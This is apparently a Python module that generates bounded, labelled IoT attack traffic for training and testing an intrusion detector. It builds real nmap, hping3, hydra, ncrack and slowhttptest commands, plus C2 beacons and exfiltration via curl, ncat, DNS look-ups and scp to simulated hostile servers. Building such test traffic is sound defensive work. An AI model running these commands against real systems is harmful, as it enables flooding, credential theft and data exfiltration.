"""The attacks: real tools, bounded in rate, count and time, with the party at the other end.

Hostile addresses do no honest business, so `peer` alone says which packets belong to an attack; where two devices are
the parties, protocol and port part the attack from what else they say. Test sessions use other rates, ports, counts
and options than training sessions, and two kinds (`TEST_ONLY`) that no training session has.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Literal, TypeVar

from behaviour import World
from topology import NOWHERE_NET, ROLES

T = TypeVar("T")
HTTP = dict.fromkeys(("mqtt-sensor", "thermostat", "camera", "doorbell", "hub", "smart-plug", "printer"), 80)
HTTP |= {"modbus-controller": 80, "speaker": 8008}
TELNET = ("camera", "doorbell", "smart-plug")
SERVICE_PORT = HTTP | {
    "camera": 80,
    "coap-sensor": 5683,
    "gateway": 22,
    "hub": 1883,
    "modbus-controller": 502,
    "printer": 9100,
}
TEST_ONLY = ("icmp-flood", "exfil-scp")


@dataclass(frozen=True, slots=True)
class Attack:
    """One attack on or by `role`; `host` runs the command, `other` is the second device if both ends are devices."""

    kind: str
    family: str
    program: str
    direction: Literal["against", "from"]
    role: str
    host: str
    peer: str
    command: str
    limit_s: float
    protocol: str = ""
    port: str = ""
    other: str = ""


@dataclass(frozen=True, slots=True)
class Site:
    """Where and how attacks are made up: the world, train or test, and the session's chance."""

    world: World
    split: Literal["train", "test"]
    rng: random.Random

    def pick(self, train: Sequence[T], test: Sequence[T]) -> T:
        """Choose a parameter from what this split may use."""
        return self.rng.choice(train if self.split == "train" else test)

    def enemy(self) -> str:
        """Choose where an attack comes from: a box on the LAN or one behind the router."""
        return self.rng.choice(("attacker", "outsider"))


Maker = Callable[[Site, str], Attack]


def against(site: Site, role: str, kind: str, family: str, command: str, *, limit_s: float, enemy: str = "") -> Attack:
    """Return an attack by a hostile host; `{ip}` in the command is the device's address."""
    enemy = enemy or site.enemy()
    text = command.replace("{ip}", site.world.at(role))
    return Attack(kind, family, _program(command), "against", role, enemy, site.world.at(enemy), text, limit_s)


def outward(site: Site, role: str, kind: str, family: str, command: str, *, limit_s: float, peer: str) -> Attack:
    """Return what a compromised device does to a hostile server; `{ip}` in the command is the server's address."""
    address = site.world.at(peer)
    return Attack(
        kind, family, _program(command), "from", role, role, address, command.replace("{ip}", address), limit_s
    )


def _program(command: str) -> str:
    known = ("nmap", "hping3", "hydra", "ncrack", "slowhttptest", "mosquitto_pub", "ncat", "scp", "dig", "curl")
    return next(name for name in known if name in command)


def syn_scan(site: Site, role: str) -> Attack:
    """Probe TCP ports, slowly or fast."""
    ports, rate = site.pick(((100, 10), (300, 50), (600, 200)), ((80, 5), (400, 80), (500, 300)))
    options = site.pick(("", "--data-length 24"), ("", "-f", "--source-port 53"))
    command = f"exec nmap -sS -Pn -n --top-ports {ports} --max-rate {rate} --max-retries 1 {options} {{ip}}"
    return against(site, role, "syn-scan", "scan", command, limit_s=45)


def udp_scan(site: Site, role: str) -> Attack:
    """Probe UDP ports."""
    ports, rate = site.pick(((50, 10), (100, 20), (150, 50)), ((60, 5), (80, 15), (200, 80)))
    command = f"exec nmap -sU -Pn -n --top-ports {ports} --max-rate {rate} --max-retries 1 --host-timeout 40s {{ip}}"
    return against(site, role, "udp-scan", "scan", command, limit_s=45)


def service_scan(site: Site, role: str) -> Attack:
    """Ask open ports what they are."""
    ports = site.pick(("22,23,80,443,502,1883", "23,80,5683,8008,9100"), ("21-23,80,502,1883,8008,8080,9100",))
    command = (
        f"exec nmap -sV -Pn -n -p {ports} --version-intensity {site.pick((2, 4), (3, 6))} --host-timeout 40s {{ip}}"
    )
    return against(site, role, "service-scan", "scan", command, limit_s=45)


def _flood(site: Site, role: str, kind: str, options: str) -> Attack:
    gap_us = site.pick((2000, 4000, 8000), (1500, 3000, 6000, 10000))
    count = site.pick((400, 700, 1000), (350, 600, 1100))
    command = f"exec hping3 -q {options} -i u{gap_us} -c {count} {{ip}}"
    return against(site, role, kind, "flood", command, limit_s=20)


def syn_flood(site: Site, role: str) -> Attack:
    """Open connections that never finish, from one address."""
    return _flood(site, role, "syn-flood", f"-S -p {SERVICE_PORT[role]}")


def spoofed_syn_flood(site: Site, role: str) -> Attack:
    """Open connections from made-up addresses of a prefix where nobody lives."""
    gap_us, count = site.pick((8000, 16000), (6000, 24000)), site.pick((120, 200), (100, 220))
    sources = [f"192.0.2.{tail}" for tail in site.rng.sample(range(1, 255), 6)]
    port = SERVICE_PORT[role]
    each = [f"hping3 -q -S -p {port} -a {source} -i u{gap_us} -c {count} {{ip}} &" for source in sources]
    attack = against(site, role, "spoofed-syn-flood", "flood", " ".join(each) + " wait", limit_s=20, enemy="attacker")
    return Attack(**{name: getattr(attack, name) for name in attack.__slots__} | {"peer": NOWHERE_NET})


def ack_flood(site: Site, role: str) -> Attack:
    """Send acknowledgements of nothing."""
    return _flood(site, role, "ack-flood", f"-A -p {site.pick((SERVICE_PORT[role], 443), (SERVICE_PORT[role], 8443))}")


def udp_flood(site: Site, role: str) -> Attack:
    """Send datagrams to one port or to all of them in turn."""
    port = site.pick(("5683", "++10000", "53"), ("++30000", "1900", "7777"))
    return _flood(site, role, "udp-flood", f"--udp -p {port} -d {site.pick((64, 256, 512), (32, 128, 700))}")


def icmp_flood(site: Site, role: str) -> Attack:
    """Send echo requests."""
    return _flood(site, role, "icmp-flood", f"--icmp -d {site.pick((56,), (56, 200))}")


def telnet_bruteforce(site: Site, role: str) -> Attack:
    """Try passwords on the telnet daemon."""
    command, limit_s = _telnet_words(site)
    return against(site, role, "telnet-bruteforce", "bruteforce", command, limit_s=limit_s)


def _telnet_words(site: Site) -> tuple[str, float]:
    links, gap, limit_s = (
        site.pick((2, 4), (1, 3)),
        site.pick(("300ms", "1s"), ("200ms", "800ms")),
        site.pick((30, 45), (25, 50)),
    )
    words = _lists(site, "-U {users} -P {words}")
    # ncrack leaves its state in its user's home: in one that vanishes with it
    return f"mount -t tmpfs tmpfs /root; exec ncrack -g CL={links},cd={gap} {words} telnet://{{ip}}", limit_s


def ssh_bruteforce(site: Site, role: str) -> Attack:
    """Try passwords on the SSH daemon."""
    tasks, limit_s = site.pick((2, 4), (1, 3)), site.pick((25, 40), (20, 45))
    command = f"exec hydra -I -t {tasks} -L {{users}} -P {{words}} ssh://{{ip}}"
    return against(site, role, "ssh-bruteforce", "bruteforce", _lists(site, command), limit_s=limit_s)


def http_bruteforce(site: Site, role: str) -> Attack:
    """Try passwords on the web page."""
    count, tasks, user = site.pick((60, 120), (40, 90)), site.pick((1, 2), (1, 3)), site.pick(("admin",), ("root",))
    words = site.world.file("words.txt")
    wait = site.pick(("-c 1", "-W 1"), ("-c 1",)) if tasks == 1 else ""
    target = f"http-get://{{ip}}:{HTTP[role]}/admin/"
    tries = f"hydra -I -t {tasks} {wait} -l {user} -P {words}.{role} {target}"
    command = f"head -n {count} {words} > {words}.{role}; exec {tries}"
    return against(site, role, "http-bruteforce", "bruteforce", command, limit_s=40)


def mqtt_bruteforce(site: Site, role: str) -> Attack:
    """Try passwords on the broker."""
    count, gap_s = site.pick((60, 120), (50, 150)), site.pick((0.1, 0.4), (0.05, 0.3))
    words = f"$(head -n {count} {site.world.file('words.txt')})"
    user = site.pick(("admin", "root"), ("home", "mqtt"))
    once = f"mosquitto_pub -h {{ip}} -u {user} -P $word -t home/x -m x"
    command = f"for word in {words}; do {once}; sleep {gap_s}; done"
    return against(site, role, "mqtt-bruteforce", "bruteforce", command, limit_s=45)


def slow_http(site: Site, role: str) -> Attack:
    """Hold connections of the web server open with requests that never end."""
    connections, per_s, every_s = site.pick((30, 60), (25, 80)), site.pick((5, 10), (4, 20)), site.pick((4, 6), (3, 8))
    mode, page = site.pick((("-H", ""),), (("-H", ""), ("-X -w 64 -y 128 -n 4 -z 64", "app.js")))
    length_s = site.pick((40, 50), (35, 55))
    target = f"http://{{ip}}:{HTTP[role]}/{page}"
    command = f"exec slowhttptest {mode} -c {connections} -r {per_s} -i {every_s} -l {length_s} -p 3 -u {target}"
    return against(site, role, "slow-http", "slow_dos", command, limit_s=length_s + 8)


def _lists(site: Site, command: str) -> str:
    return command.replace("{users}", site.world.file("users.txt")).replace("{words}", site.world.file("words.txt"))


def _beats(site: Site, once: str) -> tuple[str, float]:
    period_s, spread = site.pick((5, 8, 12), (6, 10, 18)), site.pick((0.1, 0.25), (0.05, 0.35))
    count = int(site.rng.uniform(90, 140) / period_s)
    gaps = [period_s * site.rng.uniform(1 - spread, 1 + spread) for _ in range(count)]
    return "; ".join(f"{once}; sleep {gap:.2f}" for gap in gaps), sum(gaps) + 10


def c2_http(site: Site, role: str) -> Attack:
    """Ask the command server for orders over HTTP or HTTPS."""
    url = site.pick(("http://{ip}/gate", "http://{ip}:8080/gate"), ("http://{ip}:8080/status", "https://{ip}/gate"))
    command, limit_s = _beats(site, f"curl -sk -o /dev/null --max-time 5 {url}")
    return outward(site, role, "c2-http", "c2", command, limit_s=limit_s, peer="c2")


def c2_tcp(site: Site, role: str) -> Attack:
    """Keep a connection to the command server and say a few bytes now and then."""
    command, limit_s = _beats(site, f"echo {'a' * site.pick((4, 20), (8, 40))}")
    talk = f"({command}) | timeout {limit_s:.0f} ncat {{ip}} 4444"
    return outward(site, role, "c2-tcp", "c2", talk, limit_s=limit_s + 5, peer="c2")


def c2_dns(site: Site, role: str) -> Attack:
    """Ask the command server for orders in look-ups."""
    name = f"{site.rng.randrange(16**8):08x}.{site.pick(('cdn', 'a'), ('t', 'update'))}.example.net"
    command, limit_s = _beats(site, f"dig +tries=1 +time=2 @{{ip}} {site.pick(('A', 'TXT'), ('A', 'AAAA'))} {name}")
    return outward(site, role, "c2-dns", "c2", command, limit_s=limit_s, peer="c2")


def exfil_http(site: Site, role: str) -> Attack:
    """Upload a file to a server that the device does not know."""
    rate, port = site.pick((20, 60), (15, 90)), site.pick((80, 8080), (8080, 443))
    scheme = "https" if port == 443 else "http"
    source = site.world.file(f"www/firmware-{site.rng.randrange(3)}.bin")
    command = f"exec curl -sk -o /dev/null --limit-rate {rate}k -T {source} {scheme}://{{ip}}:{port}/in"
    return outward(site, role, "exfil-http", "exfiltration", command, limit_s=40, peer="sink")


def exfil_dns(site: Site, role: str) -> Attack:
    """Carry data out in the names of look-ups."""
    count, gap_s = site.pick((60, 120), (50, 140)), site.pick((0.1, 0.3), (0.05, 0.4))
    length = site.pick((40, 60), (30, 56))
    labels = [f"{site.rng.randrange(16**length):0{length}x}" for _ in range(count)]
    once = f"dig +tries=1 +time=1 @{{ip}} A $label.example.net; sleep {gap_s}"
    command = f"for label in {' '.join(labels)}; do {once}; done"
    return outward(site, role, "exfil-dns", "exfiltration", command, limit_s=60, peer="sink")


def exfil_scp(site: Site, role: str) -> Attack:
    """Copy a file out over SSH."""
    source = site.world.file(f"www/firmware-{site.rng.randrange(3)}.bin")
    rate = site.pick((400,), (300, 900))
    target = f"root@{{ip}}:{site.world.file('received-theft')}"
    command = f"exec scp -F {site.world.file('ssh_config')} -q -l {rate} {source} {target}"
    return outward(site, role, "exfil-scp", "exfiltration", command, limit_s=40, peer="sink")


def bot_flood(site: Site, role: str) -> Attack:
    """Take part in a flood on a server."""
    gap_us, count = site.pick((3000, 6000), (2000, 9000)), site.pick((500, 900), (400, 1000))
    options = site.pick(("-S -p 80", "--udp -p 53 -d 200"), ("-S -p 443", "--udp -p ++2000 -d 400", "-A -p 80"))
    command = f"exec hping3 -q {options} -i u{gap_us} -c {count} {{ip}}"
    return outward(site, role, "bot-flood", "flood", command, limit_s=20, peer="target")


def bot_sweep(site: Site, role: str) -> Attack:
    """Look for telnet all over the Internet, as Mirai does; nobody answers."""
    ports, rate = site.pick(("23", "23,2323"), ("2323", "23,80")), site.pick((20, 60), (12, 100))
    targets = f"192.0.2.0/{site.pick((24, 25), (24, 26))}"
    command = f"exec nmap -sS -Pn -n -p {ports} --max-rate {rate} --max-retries 0 --host-timeout 30s {targets}"
    return Attack("bot-sweep", "scan", "nmap", "from", role, role, targets, command, 45)


def _neighbour(site: Site, role: str, among: Sequence[str]) -> str:
    return site.rng.choice([name for name in among if name not in (role, "hub")])


def bot_scan(site: Site, role: str) -> Attack:
    """Probe the TCP ports of another device; never the hub, with which honest devices talk."""
    other = _neighbour(site, role, ROLES)
    ports, rate = site.pick(((100, 20), (300, 100)), ((80, 10), (400, 150)))
    command = f"exec nmap -sS -Pn -n --top-ports {ports} --max-rate {rate} --max-retries 1 {site.world.at(other)}"
    return Attack("bot-scan", "scan", "nmap", "from", role, role, site.world.at(other), command, 45, "tcp", "", other)


def bot_bruteforce(site: Site, role: str) -> Attack:
    """Try passwords on another device's telnet daemon."""
    other = _neighbour(site, role, TELNET)
    command, limit_s = _telnet_words(site)
    ip = site.world.at(other)
    command = command.replace("{ip}", ip)
    return Attack(
        "bot-bruteforce", "bruteforce", "ncrack", "from", role, role, ip, command, limit_s, "tcp", "23", other
    )


SCANS: tuple[Maker, ...] = (syn_scan, udp_scan, service_scan)
FLOODS: tuple[Maker, ...] = (syn_flood, ack_flood, udp_flood, spoofed_syn_flood)
COMMANDS: tuple[Maker, ...] = (c2_http, c2_tcp, c2_dns)
THEFTS: tuple[Maker, ...] = (exfil_http, exfil_dns)
BOTS: tuple[Maker, ...] = (bot_flood, bot_scan, bot_sweep, bot_bruteforce)


def knocks(role: str) -> tuple[Maker, ...]:
    """Return the brute-force and slow attacks a role's services allow."""
    makers: list[Maker] = []
    if role in TELNET:
        makers.append(telnet_bruteforce)
    if role == "gateway":
        makers.append(ssh_bruteforce)
    if role == "hub":
        makers.append(mqtt_bruteforce)
    if role in HTTP:
        makers += [slow_http] if role in TELNET or role == "hub" else [slow_http, http_bruteforce]
    return tuple(makers) or SCANS


def draw(site: Site, role: str, number: int) -> list[Attack]:
    """Make up a role's six attacks of one session: a scan, a flood, a knock, beacons, a theft, work as a bot.

    The session's number turns the kinds so that each occurs on every role sooner or later.
    """
    turn = number + ROLES.index(role)
    floods = (*FLOODS, icmp_flood) if site.split == "test" else FLOODS
    thefts = (*THEFTS, exfil_scp) if site.split == "test" else THEFTS
    bots = BOTS if role != "hub" else BOTS[:3]
    families = (SCANS, floods, knocks(role), COMMANDS, thefts, bots)
    return [makers[(turn + index) % len(makers)](site, role) for index, makers in enumerate(families)]
